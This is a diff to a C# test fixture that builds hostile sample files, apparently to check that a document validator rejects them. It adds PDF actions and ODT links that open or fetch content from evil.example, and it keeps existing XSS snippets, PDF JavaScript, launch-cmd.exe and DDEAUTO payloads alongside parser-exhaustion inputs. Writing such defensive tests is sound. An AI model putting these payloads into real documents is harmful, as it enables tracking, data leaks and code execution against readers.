@@ -10,6 +10,7 @@ internal static class HostileFiles
     private const string Page = "<!doctype html><script>alert(1)</script>";
     private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
     private const string Script = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>";
+    private const string Address = "<</S/URI/URI(http://evil.example)>>";
     private const int Bomb = 40 * 1024 * 1024;
 
     private static readonly byte[] Archive = Zip([new("a.txt", "a")]);
@@ -42,6 +43,15 @@ internal static class HostileFiles
         ["a PDF with a script under another spelling"] = ("a.pdf", () => Pdf("a", Script.Replace("JavaScript", "J#61vaScr#69pt", StringComparison.Ordinal))),
         ["a PDF with a packed script"] = ("a.pdf", () => PackedPdf($"<</Type/Catalog/Pages 2 0 R{Script}>>")),
         ["a PDF that starts a program"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/Launch/F(cmd.exe)>>")),
+        ["a PDF that opens an address"] = ("a.pdf", () => Pdf("a", $"/OpenAction{Address}")),
+        ["a PDF that opens an address which lies elsewhere in it"] = ("a.pdf", () => Pdf("a", "/OpenAction 5 0 R", "", "<</S 6 0 R/URI(http://evil.example)>>", "/URI")),
+        ["a PDF that opens an address after its first page"] = ("a.pdf", () => Pdf("a", $"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[{Address}]>>")),
+        ["a PDF that opens an address when it is closed"] = ("a.pdf", () => Pdf("a", $"/AA<</WC{Address}>>")),
+        ["a PDF that opens an address and is packed"] = ("a.pdf", () => PackedPdf($"<</Type/Catalog/Pages 2 0 R/OpenAction{Address}>>")),
+        ["a PDF whose page opens an address"] = ("a.pdf", () => PdfWithPage($"/AA<</O{Address}>>")),
+        ["a PDF whose picture opens an address"] = ("a.pdf", () => PdfWithPage($"/Annots[<</Type/Annot/Subtype/Stamp/Rect[0 0 9 9]/AA<</PO{Address}>>>>]")),
+        ["a PDF whose field opens an address"] = ("a.pdf", () => Pdf("a", "/AcroForm<</Fields[5 0 R]>>", "", "<</T(a)/Kids[6 0 R]>>", $"<</FT/Tx/T(b)/Parent 5 0 R/AA<</Fo{Address}>>>>")),
+        ["a PDF that opens another file"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>")),
         ["a PDF with an attachment"] = ("a.pdf", () => Pdf("a", "/Names<</EmbeddedFiles 5 0 R>>")),
         ["a PDF with a form of XML"] = ("a.pdf", () => Pdf("a", "/AcroForm<</XFA 5 0 R>>")),
         ["a PDF that sends what is typed"] = ("a.pdf", () => Pdf("a", "/OpenAction<</S/SubmitForm/F(http://evil.example)>>")),
@@ -64,6 +74,23 @@ internal static class HostileFiles
         ["a DOCX that starts a program"] = ("a.docx", () => Docx("word/a.xml", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
         ["an ODT with macros"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("Basic/Standard/Module1.xml", "<a/>")])),
         ["an ODT that calls a macro"] = ("a.odt", () => Zip([.. OpenDocument(FileType.Odt), new("styles.xml", "<a href=\"vnd.sun.star.script:a\"/>")])),
+        ["an ODT with a picture elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"https://evil.example/a.png\"/>")),
+        ["an ODT with a picture elsewhere under another name"] = ("a.odt", () => LinkedOdt("content.xml", "<d:image xmlns:d=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" xmlns:l=\"http://www.w3.org/1999/xlink\" l:href=\" &#104;ttp://evil.example/a.png\"/>")),
+        ["an ODT with a picture on another machine"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"//evil.example/a.png\"/>")),
+        ["an ODT with a picture from a disk"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:image xlink:href=\"file:///etc/a.png\"/>")),
+        ["an ODT with an object elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<draw:object xlink:href=\"ftp://evil.example/a.ods\"/>")),
+        ["an ODT with a section from elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<text:section-source xlink:href=\"https://evil.example/a.odt\"/>")),
+        ["an ODT with a background from elsewhere"] = ("a.odt", () => LinkedOdt("styles.xml", "<style:background-image xlink:href=\"https://evil.example/a.png\"/>")),
+        ["an ODT with a template elsewhere"] = ("a.odt", () => LinkedOdt("meta.xml", "<meta:template xlink:href=\"https://evil.example/a.ott\"/>")),
+        ["an ODT with a template on another machine"] = ("a.odt", () => LinkedOdt("meta.xml", "<meta:template xlink:href=\"file:////evil.example/a.ott\"/>")),
+        ["an ODT that loads another page"] = ("a.odt", () => LinkedOdt("meta.xml", "<meta:auto-reload xlink:href=\"https://evil.example\"/>")),
+        ["an ODT with a table from elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<table:table-source xlink:href=\"https://evil.example/a.ods\"/>")),
+        ["an ODT with a form that is sent elsewhere"] = ("a.odt", () => LinkedOdt("content.xml", "<form:form xlink:href=\"https://evil.example\"/>")),
+        ["an ODT with a chart of figures from elsewhere"] = ("a.odt", () => LinkedOdt("Object 1/content.xml", "<chart:chart xlink:href=\"https://evil.example/a.ods\"/>")),
+        ["an ODT that is no XML"] = ("a.odt", () => LinkedOdt("content.xml", "<text:p>")),
+        ["an ODT that is nested without end"] = ("a.odt", () => LinkedOdt("content.xml", string.Concat(Enumerable.Repeat("<text:p>", 2000)) + string.Concat(Enumerable.Repeat("</text:p>", 2000)))),
+        ["an ODT of too many names"] = ("a.odt", () => LinkedOdt("content.xml", string.Concat(Enumerable.Range(0, 30_000).Select(name => $"<a{name}/>")))),
+        ["an ODT with a name that is too long"] = ("a.odt", () => LinkedOdt("content.xml", $"<text:p text:style-name=\"{new string('a', 3 * 1024 * 1024)}\"/>")),
         ["an ODT that is locked"] = ("a.odt", () => Zip(Changed(OpenDocument(FileType.Odt), "META-INF/manifest.xml", "<manifest/>", "<manifest><encryption-data/></manifest>"))),
         ["a table that is a page"] = ("a.csv", () => Text(Page)),
         ["a table of bytes"] = ("a.csv", () => [1, 2, 0, 3]),
@@ -91,6 +118,8 @@ internal static class HostileFiles
     };
 
     private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);
+
+    private static byte[] LinkedOdt(string part, string elements) => Zip(new Dictionary<string, string>(OpenDocument(FileType.Odt)) { [part] = LinkedContent(elements) });
 
     private static byte[] Docx(string part, string text) => Zip([.. OpenXml(FileType.Docx), new(part, text)]);
 
